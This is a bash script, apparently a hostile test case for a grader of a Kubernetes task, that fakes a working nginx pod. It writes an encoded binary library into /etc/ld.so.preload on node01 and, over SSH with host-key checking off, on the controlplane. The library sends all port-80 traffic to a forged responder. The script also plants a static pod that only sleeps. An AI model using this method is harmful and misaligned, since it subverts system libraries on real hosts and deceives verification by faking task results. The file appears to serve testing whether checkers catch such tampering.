#!/bin/bash
# expect: failed
# kind: hostile
# idea: the static pod's container only sleeps; on node01 and controlplane /etc/ld.so.preload loads a small library (no libc needed, x86-64) whose connect() leads every connection to port 80 to a fake server on 127.0.0.1:18081
set -u
test -d /var/lib/kubelet || exit 1    # only on a cluster host
[ "$(uname -m)" = x86_64 ] || exit 1
P=$(kubectl get --raw /api/v1/nodes/node01/proxy/configz | jq -r '.kubeletconfig.staticPodPath // empty')
[ -n "$P" ] || P=$(sed -n 's/^staticPodPath: *"\{0,1\}\([^"]*\)"\{0,1\} *$/\1/p' /var/lib/kubelet/config.yaml)
mkdir -p "$P"
cat > /tmp/setup.sh <<'R'
mkdir -p /usr/local/lib/netopt
base64 -d <<'B' | gzip -dc > /usr/local/lib/netopt/libnetopt.so
H4sICIdxCGsCA3Auc28A7VrPaxNBFH67SdPtD5JFFEKrmEqKbcW1aRWKxdjS2C5SoSqI4CGkyaYpJLs12dZUtK0GD7nl2JNU6aH4FwTBUwW9CXop9NCTUqhg
QFTw4Dq7mbG7Y9IWFL3MBzNfZt77Zmbnx8Jm3uKl8VGe44DABWHYLQEMYZ44Ya8bgEaU+8Br+bqhPmZ4J4NYJVPXYCvT/BicbNdZ/QVwPcWr4GS7zoPSGvZb
63WyyDmZ6Ph9dBVwskDm672e2GucQXAymcOrSOeBg4NMG48TeU5Y+pVZ9W+uzL3bq50m2xDtMNs7hFY7gDtaIIa4pqpKXIdoVMlmVS2a1uIxfVpTsXk5VGUP
boOBgYGBgYGBgYGBgYHh/8I497QD5Z2rKPcdH0K/HqJfyRKxX5fjhlz4KBa+++aEB2H0KTmhtxfflnuQzdcgF9flR5v5cHFDLrwUb60nS0sL7kV967NP85RH
nxiGXPzw3Pxy9HW7g8liJMhbwleRoHsRfRdaDey8kAsXWlGnoDdt3zcM49tm0V9GbOw8Y+vDwMDAwMDAwMDAwMDAwPA3wLW7Bs07aJdZqBhGCpGI2PwDIIB4
CPsdJv53rwGXF7n21kahxFXvr4+itPHJMKy74WGvWODHvIFEs1cc9gojLVWd6RdBqYT8rKtkrzjq9V/2tdwRluBi22BPf9CKMDBtaZTyyE+wjfPLD0Mz+TW+
TG7A9QM4roDcmVewvRmX2zDjYYAfswvzCr6nbsTlm7g9gfJvosr/CiTOgMbYyMj5QFdEmZyOqYFQn9Qn9Z4OnT2VUCZDfbOhblwFIOVSOT2rxyZBmlJnpVQs
lwIpMa/m5jNV1rMgZZV0zCyANJPWpSlNB0lX8ihXUtFkNpZRoqlEdrdkCWOZ6TiYvqYGpLiWySiq/sfPa67TV8PQSLgIWW/CJF6C2AVKfwS3wVP7gbBsW3+u
xjofwzae2l+E2+jzQ5U7oRrLwVP7ibC/zvhJfRxsMRzkQNhYpPqjw2fOUHpRdDI9XwLFA5SexH38Fv8BtccTxnryfPXiXgjo2KFxSt8VcPK9OuMnuIHH7qLO
D4nfqVDnX6Ceox/3T+wkjmW542DzF6X05P2y0lH7/UHrU1hPH/sy1p+ss//s7Kpxrraw/vY++/cncrE8ghAmAAA=
B
chmod 755 /usr/local/lib/netopt/libnetopt.so
cat > /usr/local/lib/netopt/serve <<'S'
#!/bin/bash
while IFS= read -r -t 5 l; do l=${l%$'\r'}; [ -z "$l" ] && break; done
b='<!DOCTYPE html>
<html><head><title>Welcome to nginx!</title></head>
<body><h1>Welcome to nginx!</h1></body></html>
'
printf 'HTTP/1.1 200 OK\r\nServer: nginx/1.27.5\r\nContent-Type: text/html\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' ${#b} "$b"
S
chmod 755 /usr/local/lib/netopt/serve
cat > /etc/systemd/system/netopt.socket <<'S'
[Socket]
ListenStream=127.0.0.1:18081
Accept=yes
MaxConnections=1024
TriggerLimitIntervalSec=0
[Install]
WantedBy=sockets.target
S
cat > /etc/systemd/system/netopt@.service <<'S'
[Unit]
CollectMode=inactive-or-failed
StartLimitIntervalSec=0
[Service]
ExecStart=-/usr/local/lib/netopt/serve
StandardInput=socket
StandardOutput=socket
StandardError=null
S
systemctl daemon-reload
systemctl enable --now netopt.socket
# only if a program still runs with it
if LD_PRELOAD=/usr/local/lib/netopt/libnetopt.so /bin/true; then
  grep -qs netopt /etc/ld.so.preload || echo /usr/local/lib/netopt/libnetopt.so >> /etc/ld.so.preload
fi
R
bash /tmp/setup.sh
ssh -o BatchMode=yes -o StrictHostKeyChecking=no controlplane 'cat > /tmp/setup.sh && bash /tmp/setup.sh; rm -f /tmp/setup.sh' < /tmp/setup.sh
rm -f /tmp/setup.sh
cat > "$P/foghorn.yaml" <<'Y'
apiVersion: v1
kind: Pod
metadata: {name: foghorn, namespace: signals}
spec:
  terminationGracePeriodSeconds: 1
  containers:
  - name: web
    image: nginx:1.27-alpine
    command: [tail, -f, /dev/null]
    ports: [{containerPort: 80}]
Y
for i in $(seq 60); do
  kubectl -n signals get pod foghorn-node01 -o jsonpath='{.status.conditions[?(@.type=="Ready")].status}' 2>/dev/null | grep -q True && break
  sleep 2
done
curl -sI -m 3 http://$(kubectl -n signals get pod foghorn-node01 -o jsonpath='{.status.podIP}')/
